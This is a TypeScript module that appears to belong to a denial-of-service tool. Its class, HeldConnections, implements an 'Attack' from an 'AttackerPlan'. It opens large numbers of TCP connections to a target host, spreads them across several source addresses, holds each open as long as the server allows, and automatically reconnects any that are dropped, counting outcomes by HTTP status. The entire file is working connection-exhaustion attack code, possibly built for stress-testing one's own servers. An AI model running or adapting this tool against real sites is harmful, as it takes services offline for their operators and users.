import { connect, type OnReadOpts, type Socket } from 'node:net';
import { Counts } from './counts.ts';
import type { Attack, AttackerPlan, Tally } from './plan.ts';

/** Faster than this, connections would be refused by the system for want of room in its queue. */
const NEW_PER_TICK = 10;
const TICK_MS = 10;
/** After so long, somebody who was thrown out comes again. */
const COME_AGAIN_MS = 5_000;
const FIRST_BYTES = 64;

/** One connection that is held. */
export interface HeldConnection {
  socket: Socket;
  /** Its place among all of them. */
  number: number;
  /** What becomes of it, when that is something else than usual. */
  count: (what: string) => void;
  /** Called with what was received. */
  onData: (text: string) => void;
}

export interface HoldingOptions {
  /** Called once it is open. @returns what is done every `everyMs` */
  hold: (connection: HeldConnection) => () => void;
  everyMs: number;
  /** How much is received before everything stops until the socket is resumed; everything, if none is given. */
  receiveBytes?: number;
}

/** Connections that are held for as long as the site lets them. Whoever is thrown out comes again. */
export class HeldConnections implements Attack {
  readonly #plan: AttackerPlan;
  readonly #options: HoldingOptions;
  readonly #counts = new Counts();
  /** Numbers of those to be opened. */
  readonly #missing: number[];
  readonly #open = new Set<Socket>();
  readonly #timers = new Set<NodeJS.Timeout>();
  #ended = false;

  constructor(plan: AttackerPlan, options: HoldingOptions) {
    this.#plan = plan;
    this.#options = options;
    this.#missing = Array.from({ length: plan.connections }, (_, number) => number);
    this.#timers.add(
      setInterval(() => {
        for (const number of this.#missing.splice(0, NEW_PER_TICK)) this.#connect(number);
      }, TICK_MS),
    );
  }

  async end(): Promise<Tally> {
    this.#ended = true;
    for (const timer of this.#timers) clearTimeout(timer);
    this.#counts.add('held at the end', this.#open.size);
    for (const socket of this.#open) socket.destroy();
    return this.#counts.toTally();
  }

  #connect(number: number): void {
    const { host, port, sources } = this.#plan;
    const localAddress = sources[number % sources.length];
    const held: HeldConnection = {
      number,
      count: (what) => this.#counts.add(what),
      onData: () => undefined,
      socket: connect({
        host,
        port,
        ...(localAddress && { localAddress }),
        ...this.#reading((text) => received(text)),
      }),
    };
    const { socket } = held;
    let beginning = '';
    const received = (text: string) => {
      if (beginning.length < FIRST_BYTES) beginning += text;
      held.onData(text);
    };
    let opened = false;
    let timer: NodeJS.Timeout | undefined;
    socket.once('connect', () => {
      opened = true;
      this.#open.add(socket);
      this.#counts.add('opened');
      timer = setInterval(this.#options.hold(held), this.#options.everyMs);
      this.#timers.add(timer);
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      this.#open.delete(socket);
      if (timer) {
        clearInterval(timer);
        this.#timers.delete(timer);
      }
      if (this.#ended) return;
      this.#counts.add(opened ? `ended ${fateOf(beginning)}` : 'not let in');
      const again = setTimeout(() => {
        this.#timers.delete(again);
        this.#missing.push(number);
      }, COME_AGAIN_MS);
      this.#timers.add(again);
    });
    if (this.#options.receiveBytes === undefined) socket.setEncoding('latin1').on('data', received);
  }

  #reading(received: (text: string) => void): { onread?: OnReadOpts } {
    const { receiveBytes } = this.#options;
    if (receiveBytes === undefined) return {};
    return {
      onread: {
        buffer: Buffer.alloc(receiveBytes),
        callback: (length, buffer) => {
          received(Buffer.from(buffer.buffer, buffer.byteOffset, length).toString('latin1'));
          return false;
        },
      },
    };
  }
}

function fateOf(received: string): string {
  const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(received) ?? [];
  return status ? `after ${status}` : 'unanswered';
}
